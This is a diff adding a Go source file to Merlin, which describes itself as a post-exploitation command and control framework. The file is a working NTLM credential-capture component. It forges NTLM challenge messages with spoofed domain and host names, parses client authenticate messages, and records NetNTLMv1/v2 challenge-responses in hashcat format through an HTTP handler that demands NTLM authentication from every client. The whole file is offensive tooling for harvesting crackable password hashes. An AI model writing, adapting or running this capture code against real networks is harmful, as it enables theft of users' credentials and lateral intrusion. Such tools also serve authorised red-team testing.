@@ -0,0 +1,225 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"bytes"
+	"encoding/base64"
+	"encoding/binary"
+	"encoding/hex"
+	"fmt"
+	"net"
+	"net/http"
+	"strings"
+	"sync"
+	"time"
+	"unicode/utf16"
+)
+
+const (
+	// ntlmChallengeFlags are the negotiate flags sent in the challenge message, they include extended session
+	// security and target information so clients respond with NetNTLMv2
+	ntlmChallengeFlags = 0xe2898215
+	// ntlmUnicode is the NTLMSSP_NEGOTIATE_UNICODE flag
+	ntlmUnicode = 0x1
+)
+
+// ntlmSignature starts every NTLM message
+var ntlmSignature = []byte("NTLMSSP\x00")
+
+// NTLMHash is a NetNTLM challenge-response captured from a client, in hashcat format
+type NTLMHash struct {
+	Time     time.Time `json:"time"`
+	Source   string    `json:"source"`
+	Protocol string    `json:"protocol"`
+	User     string    `json:"user"`
+	Domain   string    `json:"domain"`
+	Version  string    `json:"version"`
+	Hash     string    `json:"hash"`
+}
+
+// ntlmHashes are the challenge-responses captured by the responder and capture listeners
+var ntlmHashes struct {
+	sync.Mutex
+	hashes []NTLMHash
+}
+
+// recordHash keeps a captured challenge-response and returns false if the same user's response was already captured
+func recordHash(hash NTLMHash) bool {
+	ntlmHashes.Lock()
+	defer ntlmHashes.Unlock()
+	for _, h := range ntlmHashes.hashes {
+		if h.Hash == hash.Hash {
+			return false
+		}
+	}
+	ntlmHashes.hashes = append(ntlmHashes.hashes, hash)
+	return true
+}
+
+// capturedHashes returns every challenge-response captured so far
+func capturedHashes() []NTLMHash {
+	ntlmHashes.Lock()
+	defer ntlmHashes.Unlock()
+	return append([]NTLMHash(nil), ntlmHashes.hashes...)
+}
+
+// ntlmMessageType returns the type of an NTLM message, or 0 if it is not an NTLM message
+func ntlmMessageType(msg []byte) uint32 {
+	if len(msg) < 12 || !bytes.Equal(msg[:8], ntlmSignature) {
+		return 0
+	}
+	return binary.LittleEndian.Uint32(msg[8:12])
+}
+
+// ntlmChallenge builds a challenge (type 2) message with the server challenge for the domain and computer name
+func ntlmChallenge(challenge [8]byte, domain, computer string) []byte {
+	target := utf16le(domain)
+	var info bytes.Buffer
+	for _, av := range []struct {
+		id    uint16
+		value string
+	}{{2, domain}, {1, computer}, {4, strings.ToLower(domain) + ".local"}, {3, strings.ToLower(computer) + "." + strings.ToLower(domain) + ".local"}} {
+		v := utf16le(av.value)
+		_ = binary.Write(&info, binary.LittleEndian, []uint16{av.id, uint16(len(v))})
+		info.Write(v)
+	}
+	// MsvAvEOL
+	info.Write([]byte{0, 0, 0, 0})
+
+	const header = 56
+	var msg bytes.Buffer
+	msg.Write(ntlmSignature)
+	_ = binary.Write(&msg, binary.LittleEndian, uint32(2))
+	_ = binary.Write(&msg, binary.LittleEndian, []uint16{uint16(len(target)), uint16(len(target))})
+	_ = binary.Write(&msg, binary.LittleEndian, uint32(header))
+	_ = binary.Write(&msg, binary.LittleEndian, uint32(ntlmChallengeFlags))
+	msg.Write(challenge[:])
+	msg.Write(make([]byte, 8))
+	_ = binary.Write(&msg, binary.LittleEndian, []uint16{uint16(info.Len()), uint16(info.Len())})
+	_ = binary.Write(&msg, binary.LittleEndian, uint32(header+len(target)))
+	// Version 6.1 build 7601, NTLM revision 15
+	msg.Write([]byte{6, 1, 0xb1, 0x1d, 0, 0, 0, 15})
+	msg.Write(target)
+	msg.Write(info.Bytes())
+	return msg.Bytes()
+}
+
+// ntlmResponse parses an authenticate (type 3) message into a hashcat NetNTLMv1 or NetNTLMv2 hash for the server
+// challenge. Anonymous authentication returns an error
+func ntlmResponse(msg []byte, challenge [8]byte) (hash NTLMHash, err error) {
+	if ntlmMessageType(msg) != 3 || len(msg) < 64 {
+		return hash, fmt.Errorf("not an NTLM authenticate message")
+	}
+	field := func(offset int) ([]byte, error) {
+		length := int(binary.LittleEndian.Uint16(msg[offset:]))
+		start := int(binary.LittleEndian.Uint32(msg[offset+4:]))
+		if start+length > len(msg) {
+			return nil, fmt.Errorf("the NTLM authenticate message field at %d is out of bounds", offset)
+		}
+		return msg[start : start+length], nil
+	}
+	lm, err := field(12)
+	if err != nil {
+		return
+	}
+	nt, err := field(20)
+	if err != nil {
+		return
+	}
+	domain, err := field(28)
+	if err != nil {
+		return
+	}
+	user, err := field(36)
+	if err != nil {
+		return
+	}
+	unicode := binary.LittleEndian.Uint32(msg[60:])&ntlmUnicode != 0
+	hash.User, hash.Domain = ntlmString(user, unicode), ntlmString(domain, unicode)
+	if hash.User == "" || len(nt) == 0 {
+		return hash, fmt.Errorf("anonymous NTLM authentication")
+	}
+
+	c := hex.EncodeToString(challenge[:])
+	switch {
+	case len(nt) > 24:
+		hash.Version = "NetNTLMv2"
+		hash.Hash = fmt.Sprintf("%s::%s:%s:%x:%x", hash.User, hash.Domain, c, nt[:16], nt[16:])
+	case len(nt) == 24:
+		hash.Version = "NetNTLMv1"
+		hash.Hash = fmt.Sprintf("%s::%s:%x:%x:%s", hash.User, hash.Domain, lm, nt, c)
+	default:
+		return hash, fmt.Errorf("unexpected NTLM response length %d", len(nt))
+	}
+	return
+}
+
+// ntlmHTTPHandler requests NTLM authentication from every HTTP client and records the challenge-response. The
+// handshake is bound to the connection so the server must keep connections alive
+func ntlmHTTPHandler(challenge [8]byte, domain, computer string, captured func(NTLMHash)) http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		auth := r.Header.Get("Authorization")
+		scheme, token, _ := strings.Cut(auth, " ")
+		msg, err := base64.StdEncoding.DecodeString(strings.TrimSpace(token))
+		if err != nil || (!strings.EqualFold(scheme, "NTLM") && !strings.EqualFold(scheme, "Negotiate")) {
+			w.Header().Set("WWW-Authenticate", "NTLM")
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		switch ntlmMessageType(msg) {
+		case 1:
+			w.Header().Set("WWW-Authenticate", scheme+" "+base64.StdEncoding.EncodeToString(ntlmChallenge(challenge, domain, computer)))
+			w.WriteHeader(http.StatusUnauthorized)
+		case 3:
+			hash, err := ntlmResponse(msg, challenge)
+			if err == nil {
+				hash.Time = time.Now().UTC()
+				hash.Source, _, _ = net.SplitHostPort(r.RemoteAddr)
+				hash.Protocol = "http"
+				captured(hash)
+			}
+			w.WriteHeader(http.StatusForbidden)
+		default:
+			w.Header().Set("WWW-Authenticate", "NTLM")
+			w.WriteHeader(http.StatusUnauthorized)
+		}
+	})
+}
+
+// utf16le encodes a string as little endian UTF-16
+func utf16le(s string) []byte {
+	var b bytes.Buffer
+	for _, r := range utf16.Encode([]rune(s)) {
+		_ = binary.Write(&b, binary.LittleEndian, r)
+	}
+	return b.Bytes()
+}
+
+// ntlmString decodes an NTLM message string that is UTF-16 if the unicode flag was negotiated, otherwise OEM
+func ntlmString(b []byte, unicode bool) string {
+	if !unicode {
+		return string(b)
+	}
+	u := make([]uint16, len(b)/2)
+	for i := range u {
+		u[i] = binary.LittleEndian.Uint16(b[i*2:])
+	}
+	return string(utf16.Decode(u))
+}